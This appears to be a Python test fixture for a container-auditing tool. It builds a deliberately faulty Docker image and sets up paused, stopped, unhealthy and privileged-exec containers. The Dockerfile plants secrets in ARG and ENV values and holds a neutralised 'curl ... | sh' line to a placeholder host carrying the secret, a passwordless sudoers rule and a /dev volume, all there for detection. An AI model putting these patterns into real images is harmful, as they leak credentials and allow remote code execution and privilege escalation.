"""What only recordings need beside the cases: containers that do not run, exec sessions, health, an image's history."""

import contextlib
import io
import json
import tarfile
import time

from cases import PLANTED_SECRET
from engine import BASE_IMAGE, Engine, EngineError

FAULTY_IMAGE = "plimsoll-test/faulty:1"
FAULTY_BUILDKIT_IMAGE = "plimsoll-test/faulty-buildkit:1"

_DEADLINE_SECONDS = 60
_POLL_SECONDS = 0.1

# Nothing is downloaded or installed: true ends each of them before it would be.
_DOCKERFILE = f"""
FROM {BASE_IMAGE}
ARG NPM_TOKEN={PLANTED_SECRET}
ENV LADDER_ADDRESS=x API_KEY={PLANTED_SECRET}
ADD archive.tar /data
COPY update.sh /bin/update.sh
RUN true || apt-get update
RUN true || apt-get update && true || apt-get install --yes {PLANTED_SECRET}
RUN true || curl --silent https://example.invalid/{PLANTED_SECRET} | sh
RUN true || echo one two three four five six seven eight nine ten || apt-get install --allow-unauthenticated x
RUN true || echo "app ALL=(ALL) NOPASSWD: ALL"
EXPOSE 22
VOLUME /dev
USER 1000
"""


@contextlib.contextmanager
def added_to(engine: Engine):
    """With all of it on the engine."""
    add_images(engine)
    add_stopped(engine)
    add_sessions(engine)
    add_options(engine)
    add_unhealthy(engine)
    with paused(engine):
        yield


@contextlib.contextmanager
def paused(engine: Engine):
    """With a container of that name and state. What is frozen cannot be killed: it must not stay so."""
    engine.docker("run", "--detach", "--name=paused", BASE_IMAGE)
    engine.docker("pause", "paused")
    try:
        yield
    finally:
        engine.docker("unpause", "paused")


def add_images(engine: Engine) -> None:
    """One image for each form of history that the engine writes, each with a container that does not run."""
    engine.docker("build", "--quiet", "--tag", FAULTY_IMAGE, "-", stdin=_context())
    engine.docker("create", "--name=of-faulty-image", FAULTY_IMAGE, "/bin/true")
    if engine.name == "docker":  # the CLI of the others cannot
        engine.docker("build", "--quiet", "--tag", FAULTY_BUILDKIT_IMAGE, "-", stdin=_context(),
                      env={"DOCKER_BUILDKIT": "1"})
        engine.docker("create", "--name=of-faulty-buildkit-image", FAULTY_BUILDKIT_IMAGE, "/bin/true")


def add_stopped(engine: Engine) -> None:
    engine.docker("create", "--name=created", BASE_IMAGE)
    engine.docker("run", "--name=exited", BASE_IMAGE, "/bin/true")
    # A task that ended: its slot is another's now.
    engine.docker("create", "--name=web.1.ccccccccccccccccccccccccc", BASE_IMAGE)


def add_sessions(engine: Engine) -> None:
    engine.docker("run", "--detach", "--name=with-sessions", BASE_IMAGE)
    for options in (("--privileged",), ("--user=1000",), ()):
        engine.docker("exec", "--detach", *options, "with-sessions",
                      "/bin/sh", "-c", f": {PLANTED_SECRET}; exec sleep 1000000")


def add_options(engine: Engine) -> None:
    """What the cases do not use."""
    engine.docker("run", "--detach", "--name=with-options", "--sysctl=net.ipv4.ip_forward=0", "--tmpfs=/run:exec",
                  "--log-driver=json-file", "--log-opt=max-size=1m", BASE_IMAGE)


def add_unhealthy(engine: Engine) -> None:
    if engine.name == "podman":  # it leaves health checks to systemd and --init to another package: neither is here
        return
    engine.docker("run", "--detach", "--name=unhealthy", "--health-cmd=exit 1", "--health-interval=1s",
                  "--health-retries=1", "--init", BASE_IMAGE)
    deadline = time.monotonic() + _DEADLINE_SECONDS
    while json.loads(engine.api("/containers/unhealthy/json")[2])["State"]["Health"]["Status"] != "unhealthy":
        if time.monotonic() > deadline:
            raise EngineError(f"{engine.name}: no health check ran in {_DEADLINE_SECONDS} s")
        time.sleep(_POLL_SECONDS)


def _context() -> bytes:
    """A build's context: the Dockerfile and what it adds."""
    context = io.BytesIO()
    with tarfile.open(fileobj=context, mode="w") as tar:
        files = {"Dockerfile": _DOCKERFILE.encode(), "update.sh": b"", "archive.tar": _empty_archive()}
        for name, content in files.items():
            file = tarfile.TarInfo(name)
            file.size = len(content)
            tar.addfile(file, io.BytesIO(content))
    return context.getvalue()


def _empty_archive() -> bytes:
    archive = io.BytesIO()
    tarfile.open(fileobj=archive, mode="w").close()
    return archive.getvalue()
